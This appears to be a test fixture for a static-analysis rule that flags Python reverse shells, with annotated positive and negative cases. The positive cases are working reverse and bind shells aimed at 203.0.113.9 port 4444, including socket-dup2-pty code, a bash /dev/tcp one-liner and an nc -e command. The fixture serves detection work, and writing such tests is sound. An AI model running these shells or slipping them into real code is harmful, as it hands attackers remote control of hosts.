import os
import pty
import socket
import subprocess


def call_home():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("203.0.113.9", 4444))
    # ruleid: python-reverse-shell
    os.dup2(s.fileno(), 0)
    # ruleid: python-reverse-shell
    os.dup2(s.fileno(), 1)
    pty.spawn("/bin/sh")


def call_home_again():
    s = socket.create_connection(("203.0.113.9", 4444))
    # ruleid: python-reverse-shell
    subprocess.call(["/bin/bash", "-i"], stdin=s.fileno(), stdout=s.fileno())


def listen():
    server = socket.socket()
    server.bind(("0.0.0.0", 4444))
    server.listen(1)
    client, address = server.accept()
    # ruleid: python-reverse-shell
    subprocess.Popen("/bin/sh", stdin=client, stdout=client, stderr=client)
    # ruleid: python-reverse-shell
    os.system("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")
    # ruleid: python-reverse-shell
    subprocess.run(["bash", "-c", "nc 203.0.113.9 4444 -e /bin/sh"])


def one_line():
    s = socket.socket()
    s.connect(("203.0.113.9", 4444))
    # ruleid: python-reverse-shell
    [os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]
    pty.spawn("sh")


def inetd(path):
    server = socket.socket()
    client, address = server.accept()
    # ok: python-reverse-shell
    os.dup2(client.fileno(), 0)
    os.execv(path, [path])


def daemonize(log):
    # ok: python-reverse-shell
    os.dup2(log.fileno(), 1)
    null = open(os.devnull)
    # ok: python-reverse-shell
    os.dup2(null.fileno(), 0)
    # ok: python-reverse-shell
    subprocess.run(["/bin/sh", "run.sh"], stdin=null)
    # ok: python-reverse-shell
    os.system("nc -z localhost 5432")
    s = socket.create_connection(("localhost", 80))
    # ok: python-reverse-shell
    s.sendall(b"GET / HTTP/1.0")
